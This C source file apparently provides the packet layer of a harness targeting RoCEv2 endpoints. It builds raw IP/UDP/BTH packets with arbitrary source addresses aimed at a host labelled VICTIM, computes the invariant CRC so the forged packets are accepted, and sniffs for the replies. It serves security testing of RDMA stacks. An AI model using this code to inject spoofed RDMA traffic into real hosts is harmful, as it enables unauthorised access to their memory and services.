// SPDX-License-Identifier: GPL-2.0

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "node.h"
#include "packet.h"

#define VICTIM "10.0.0.2"

enum { ROCE_PORT = 4791 };

static uint32_t crc32(uint32_t crc, const uint8_t *data, size_t size)
{
	static uint32_t table[256];
	unsigned int i, bit;

	for (i = 0; !table[255] && i < 256; i++) {
		table[i] = i;
		for (bit = 0; bit < 8; bit++)
			table[i] = table[i] >> 1 ^ (table[i] & 1 ? 0xedb88320 : 0);
	}
	while (size--)
		crc = crc >> 8 ^ table[(crc ^ *data++) & 0xff];
	return crc;
}

/* Over the fields that no router changes: the others count as ones. */
static uint32_t icrc(const struct packet *packet)
{
	uint8_t masked[8 + BTH_OFFSET + BTH_BYTES];
	uint8_t *ip = masked + 8, *bth = ip + BTH_OFFSET;
	size_t head = BTH_OFFSET + BTH_BYTES;
	uint32_t crc;

	if (head > packet->size)
		head = packet->size;
	memset(masked, 0xff, sizeof(masked));		/* first, the LRH of InfiniBand */
	memcpy(ip, packet->bytes, head);
	ip[1] = 0xff;					/* type of service */
	ip[8] = 0xff;					/* time to live */
	memset(ip + 10, 0xff, 2);			/* header checksum */
	memset(ip + 26, 0xff, 2);			/* UDP checksum */
	bth[4] = 0xff;					/* congestion bits */
	crc = crc32(~0u, masked, 8 + head);
	return ~crc32(crc, packet->bytes + head, packet->size - head);
}

bool is_request(uint8_t opcode)
{
	opcode &= 0x1f;
	return opcode < READ_RESPONSE_FIRST || opcode > ATOMIC_ACKNOWLEDGE;
}

void packet_start(struct packet *packet, const char *source, uint8_t opcode,
		  uint32_t qp_num, uint32_t psn)
{
	struct iphdr ip = {
		.version = 4,
		.ihl = 5,
		.id = htons(0x5243),
		.frag_off = htons(IP_DF),
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.saddr = inet_addr(source),
		.daddr = inet_addr(VICTIM),
	};
	struct udphdr udp = {
		.source = htons(0xc000),
		.dest = htons(ROCE_PORT),
	};

	memcpy(packet->bytes, &ip, sizeof(ip));
	memcpy(packet->bytes + sizeof(ip), &udp, sizeof(udp));
	packet->size = BTH_OFFSET;
	packet_u32(packet, (uint32_t)opcode << 24 | 0xffff);	/* default partition */
	packet_u32(packet, qp_num);
	packet_u32(packet, 0x80000000 | (psn & 0xffffff));
}

void packet_u32(struct packet *packet, uint32_t value)
{
	value = htonl(value);
	memcpy(packet->bytes + packet->size, &value, sizeof(value));
	packet->size += sizeof(value);
}

void packet_u64(struct packet *packet, uint64_t value)
{
	packet_u32(packet, value >> 32);
	packet_u32(packet, value);
}

void packet_payload(struct packet *packet, const void *data, size_t size)
{
	size_t pad = -size & 3;

	memcpy(packet->bytes + packet->size, data, size);
	memset(packet->bytes + packet->size + size, 0, pad);
	packet->size += size + pad;
	packet->bytes[BTH_OFFSET + 1] |= pad << 4;
}

void packet_seal(struct packet *packet)
{
	uint16_t length;
	uint32_t crc;

	length = htons(packet->size + ICRC_BYTES);
	memcpy(packet->bytes + 2, &length, sizeof(length));
	length = htons(packet->size + ICRC_BYTES - sizeof(struct iphdr));
	memcpy(packet->bytes + sizeof(struct iphdr) + 4, &length, sizeof(length));
	crc = icrc(packet);		/* little endian, as on the wire */
	memcpy(packet->bytes + packet->size, &crc, ICRC_BYTES);
	packet->size += ICRC_BYTES;
}

void link_open(struct link *link)
{
	struct sockaddr_ll eth0 = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = if_nametoindex("eth0"),
	};
	int size = 4 << 20;

	link->raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	link->sniffer = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
	if (link->raw < 0 || link->sniffer < 0)
		err(1, "socket");
	if (bind(link->sniffer, (struct sockaddr *)&eth0, sizeof(eth0)) ||
	    setsockopt(link->sniffer, SOL_SOCKET, SO_RCVBUFFORCE, &size, sizeof(size)))
		err(1, "eth0");
}

void link_send(struct link *link, const struct packet *packets, unsigned int count)
{
	struct sockaddr_in to = {
		.sin_family = AF_INET,
		.sin_addr.s_addr = inet_addr(VICTIM),
	};

	for (; count; count--, packets++) {
		while (sendto(link->raw, packets->bytes, packets->size, 0,
			      (struct sockaddr *)&to, sizeof(to)) < 0) {
			if (errno != ENOBUFS)
				err(1, "packet of %zu bytes", packets->size);
			usleep(100);
		}
	}
}

bool link_answer(struct link *link, uint32_t qp_num, unsigned int timeout_ms,
		 struct answer *answer)
{
	static uint8_t bytes[PACKET_MAX];
	const uint8_t *bth = bytes + BTH_OFFSET;
	uint64_t end = now_ns() + timeout_ms * 1000000ull;

	for (;;) {
		struct pollfd ready = { .fd = link->sniffer, .events = POLLIN };
		struct sockaddr_ll from;
		socklen_t from_size = sizeof(from);
		uint64_t now = now_ns();
		ssize_t size;
		uint32_t word;

		if (poll(&ready, 1, now < end ? (end - now + 999999) / 1000000 : 0) != 1)
			return false;
		size = recvfrom(link->sniffer, bytes, sizeof(bytes), 0,
				(struct sockaddr *)&from, &from_size);
		if (size < BTH_OFFSET + BTH_BYTES + ICRC_BYTES ||
		    from.sll_pkttype == PACKET_OUTGOING ||
		    bytes[9] != IPPROTO_UDP ||
		    (bytes[22] << 8 | bytes[23]) != ROCE_PORT)
			continue;
		memcpy(&word, bth + 4, sizeof(word));
		if ((ntohl(word) & 0xffffff) != qp_num)
			continue;
		answer->opcode = bth[0];
		memcpy(&word, bth + 8, sizeof(word));
		answer->psn = ntohl(word) & 0xffffff;
		answer->body = bth + BTH_BYTES;
		answer->size = size - BTH_OFFSET - BTH_BYTES - ICRC_BYTES;
		answer->syndrome = answer->body[0];
		return true;
	}
}

void link_flush(struct link *link)
{
	uint8_t byte;

	while (recv(link->sniffer, &byte, sizeof(byte), MSG_DONTWAIT) >= 0)
		;
}
